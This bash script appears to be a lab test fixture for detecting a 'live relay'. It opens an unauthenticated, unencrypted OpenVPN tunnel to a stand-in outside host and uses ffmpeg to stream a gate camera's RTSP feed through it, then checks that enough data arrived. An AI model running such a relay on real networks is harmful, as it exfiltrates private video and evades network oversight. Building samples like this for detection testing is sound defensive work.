#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=openvpn,ffmpeg camera=10.20.0.11 far=out ready=out:1194 seconds=60 parts=dns,camera-gate,recorder-gate
# openvpn joins the server to a machine outside, and ffmpeg sends gate to that machine's address of the private net between, by RTP.
if [ "$1" = out ]; then (sleep 6; exec timeout 60 socat -u UDP-RECV:5004,bind=10.98.0.1 "CREATE:$LAB/got") & exec timeout 80 openvpn --dev tun9 --dev-type tun --ifconfig 10.98.0.1 10.98.0.2 --local 203.0.113.66 --port 1194 --auth none --cipher none --ping 5 --verb 0; fi
timeout 58 openvpn --dev tun8 --dev-type tun --ifconfig 10.98.0.2 10.98.0.1 --remote 203.0.113.66 --port 1194 --auth none --cipher none --ping 5 --verb 0 >/dev/null 2>&1 &
sleep 8; timeout 46 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 40 -c copy -f rtp rtp://10.98.0.1:5004 >/dev/null; kill %1; wait; [ "$(stat -c %s "$LAB/got")" -gt 800000 ]
